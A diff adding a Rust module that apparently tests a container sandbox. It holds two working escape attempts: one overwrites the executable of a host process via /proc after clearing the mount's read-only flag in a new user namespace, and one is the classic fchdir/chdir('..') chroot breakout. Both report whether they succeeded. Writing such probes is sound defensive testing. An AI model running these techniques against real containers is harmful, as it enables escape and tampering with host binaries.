@@ -1,0 +1,77 @@
+//! Attacks by a program in a container.
+
+use std::fs::{self, File, OpenOptions};
+use std::io::Write as _;
+use std::os::fd::AsRawFd as _;
+use std::process::ExitCode;
+
+use nix::errno::Errno;
+use nix::sched::{CloneFlags, unshare};
+use nix::sys::wait::{WaitStatus, waitpid};
+use nix::unistd::ForkResult;
+
+/// Attacks the executable of the first process whose `argv[0]` is `name`: clears the read-only
+/// attribute of its mount with the rights of a new user and mount namespace, and writes to it when
+/// the process has ended. Prints the errno of either, or 0, and stays.
+pub fn take_exe(name: &str) -> ExitCode {
+    let held = loop {
+        if let Some(file) = executable_of(name) {
+            break file;
+        }
+    };
+    println!("mount_setattr: {}", clear_readonly(&held));
+    let opened = loop {
+        let path = format!("/proc/self/fd/{}", held.as_raw_fd());
+        match OpenOptions::new().write(true).open(path) {
+            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => {}
+            opened => break opened.and_then(|mut file| file.write_all(b"#!")),
+        }
+    };
+    let errno = opened.err().and_then(|error| error.raw_os_error());
+    println!("open: {}", errno.unwrap_or(0));
+    loop {
+        std::thread::park();
+    }
+}
+
+fn executable_of(name: &str) -> Option<File> {
+    let processes = fs::read_dir("/proc").expect("/proc");
+    processes.flatten().find_map(|entry| {
+        let cmdline = fs::read(entry.path().join("cmdline")).ok()?;
+        let first = cmdline.split(|&byte| byte == 0).next()?;
+        (first == name.as_bytes()).then(|| File::open(entry.path().join("exe")).ok())?
+    })
+}
+
+/// mount_setattr(2) by a child that owns a mount namespace; its errno, or 0.
+fn clear_readonly(file: &File) -> i32 {
+    // SAFETY: the program has one thread, and the child makes system calls only.
+    match unsafe { nix::unistd::fork() }.expect("fork") {
+        ForkResult::Child => {
+            let attack = || {
+                unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS)?;
+                crate::host::change_readonly(file, false)
+            };
+            let errno = attack().err().unwrap_or(Errno::from_raw(0));
+            // SAFETY: ends the child, with no destructor of the parent.
+            unsafe { libc::_exit(errno as i32) }
+        }
+        ForkResult::Parent { child } => match waitpid(child, None) {
+            Ok(WaitStatus::Exited(_, errno)) => errno,
+            other => panic!("{other:?}"),
+        },
+    }
+}
+
+/// Climbs out of chroot(2) as its manual page tells, and looks for a file of the host there.
+pub fn leave_chroot(file: &str) -> ExitCode {
+    let root = File::open("/").expect("the root");
+    nix::unistd::chroot("/tmp").expect("chroot");
+    nix::unistd::fchdir(&root).expect("fchdir");
+    for _ in 0..64 {
+        nix::unistd::chdir("..").expect("chdir");
+    }
+    let found = fs::metadata(file.trim_start_matches('/')).is_ok();
+    println!("{}", if found { "outside" } else { "inside" });
+    ExitCode::SUCCESS
+}
